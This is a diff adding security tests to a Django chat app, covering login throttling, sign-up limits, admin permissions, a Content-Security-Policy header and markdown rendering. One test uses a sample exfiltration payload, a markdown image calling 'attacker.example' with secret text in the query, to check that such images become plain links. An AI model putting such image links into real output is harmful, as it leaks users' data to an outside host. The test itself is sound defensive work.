@@ -133,3 +133,73 @@ class TestKeysNeverShown:
         sync_env_connections()
         call_command("dumpdata", "providers")
         assert SECRET not in capsys.readouterr().out
+
+
+@pytest.mark.django_db
+class TestThrottling:
+    def test_five_wrong_passwords_lock_the_username_even_with_the_right_one(self, client, owner):
+        codes = [
+            client.post("/login/", {"username": "owner", "password": "wrong"}).status_code
+            for _ in range(5)
+        ]
+        assert codes == [200, 200, 200, 200, 429]  # the fifth failure locks
+        response = client.post("/login/", {"username": "owner", "password": "s3cret-pass-word"})
+        assert response.status_code == 429
+        assert "Try again in 15 minutes" in response.content.decode()
+        assert "_auth_user_id" not in client.session
+
+    def test_failures_from_one_ip_lock_it_whatever_the_username(self, client, owner):
+        for attempt in range(5):
+            client.post("/login/", {"username": f"nobody{attempt}", "password": "x"})
+        response = client.post("/login/", {"username": "owner", "password": "s3cret-pass-word"})
+        assert response.status_code == 429
+
+    def test_a_right_password_before_the_limit_still_works(self, client, owner):
+        for _ in range(3):
+            client.post("/login/", {"username": "owner", "password": "wrong"})
+        response = client.post("/login/", {"username": "owner", "password": "s3cret-pass-word"})
+        assert response.status_code == 302
+
+    def test_sign_ups_from_one_address_are_limited(self, client, owner, settings):
+        settings.SIGNUP_MODE = "open"
+        codes = [
+            client.post(
+                "/signup/",
+                {"username": f"user{n}", "password1": "a-long-pass-99", "password2": "x"},
+            ).status_code
+            for n in range(settings.SIGNUP_RATE_LIMIT + 1)
+        ]
+        assert codes[-1] == 429 and 429 not in codes[:-1]
+
+
+@pytest.mark.django_db
+def test_view_only_staff_cannot_approve_users(client, teammate, outsider):
+    teammate.is_staff = True
+    teammate.save()
+    teammate.user_permissions.add(Permission.objects.get(codename="view_user"))
+    client.force_login(teammate)
+    page = client.get("/admin/chat/user/")
+    assert page.status_code == 200 and "Approve selected users" not in page.content.decode()
+    client.post(
+        "/admin/chat/user/",
+        {"action": "approve", "_selected_action": [outsider.pk], "index": 0},
+    )
+    outsider.refresh_from_db()
+    assert not outsider.is_approved
+
+
+@pytest.mark.django_db
+def test_every_page_carries_a_strict_content_security_policy(client, owner):
+    client.force_login(owner)
+    policy = client.get("/")["Content-Security-Policy"]
+    assert "script-src 'self'" in policy and "unsafe-inline" not in policy.split("style-src")[0]
+    assert "img-src 'self' data:" in policy
+
+
+def test_markdown_images_from_other_hosts_become_links():
+    from chat.markdown import render_markdown
+
+    html = str(render_markdown("![chart](https://attacker.example/?d=secret+text)"))
+    assert "<img" not in html
+    assert 'href="https://attacker.example/?d=secret+text"' in html and "chart (image)" in html
+    assert "<img" in str(render_markdown("![ok](data:image/png;base64,iVBORw0KGgo=)"))
